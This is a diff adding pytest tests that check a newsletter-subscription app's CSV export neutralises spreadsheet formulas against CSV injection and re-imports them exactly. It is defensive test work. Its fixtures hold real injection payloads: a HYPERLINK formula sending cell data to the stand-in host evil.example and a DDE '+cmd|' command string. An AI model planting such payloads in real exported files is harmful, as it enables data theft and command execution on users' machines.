@@ -18,7 +18,7 @@ from digest import subscriptions as subs
 from digest import subscriptions as subs_io
 from digest.match import query as query_language
 from digest.store.models import Subscriber, SubscriberStatus, Topic
-from digest.subscriptions import importer
+from digest.subscriptions import cells, importer
 
 BAD_QUERY = '"machine unlearning'  # unclosed quote
 
@@ -478,3 +478,54 @@ def test_import_normalises_topic_whitespace_and_drops_repeats_of_any_case(
     report = _import(session, 'email,topics\nada@example.org,"llm\t  agents; LLM Agents; X; x"\n')
     assert (report.imported, report.topics, report.errors) == (1, 2, [])
     assert sorted(session.scalars(select(Topic.query))) == ["X", "llm agents"]
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_export_neutralises_formulas_and_imports_them_back_exactly(session: Session) -> None:
+    """OWASP CSV injection: no exported cell starts a spreadsheet formula, and our own
+    import reads the neutralised cells back exactly."""
+    _hf_feed(session)
+    # A valid address (RFC 5322 atext allows = and +) that a spreadsheet would evaluate.
+    sly = subs.add_subscriber(session, "=1+2@example.org", confirmed=True)
+    labels = [
+        ("diffusion", '=HYPERLINK("https://evil.example/?"&A1,"click")'),
+        ("llm", "+cmd|' /C calc'!A0"),
+        ("jailbreak", "@SUM(1+1)"),
+        ("unlearning", "-2+3"),
+        ("safety", "'=already quoted"),
+        ("agents", "'plain quote"),
+    ]
+    for query, label in labels:
+        subs.add_topic(session, sly, query, label=label)
+    minus = subs.add_subscriber(session, "-dash@example.org", confirmed=True)
+    subs.add_topic(session, minus, "-survey diffusion")
+    session.commit()
+    first = io.StringIO()
+    assert subs_io.export_csv(session, first) == 2
+    rows = list(csv.reader(io.StringIO(first.getvalue())))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(FORMULA_START), cell
+    assert rows[1][0] == "'=1+2@example.org" and rows[2][0] == "'-dash@example.org"
+    for sub in session.scalars(select(Subscriber)):
+        session.delete(sub)
+    session.commit()
+
+    again = _import(session, first.getvalue())
+    assert (again.imported, again.errors) == (2, [])
+    restored = subs.get_subscriber(session, "=1+2@example.org")
+    assert restored is not None and restored.email == "=1+2@example.org"
+    assert [(t.query, t.label) for t in restored.topics] == labels
+    back = subs.get_subscriber(session, "-dash@example.org")
+    assert back is not None and [t.query for t in back.topics] == ["-survey diffusion"]
+    second = io.StringIO()
+    subs_io.export_csv(session, second)
+    assert second.getvalue() == first.getvalue()
+
+
+def test_a_hand_written_leading_quote_is_kept() -> None:
+    assert cells.restore("'hello") == "'hello"
+    for cell in ("=1+2", "'x", " -1", "@a", "\tx", "plain", "", "'"):
+        assert cells.restore(cells.neutralise(cell)) == cell
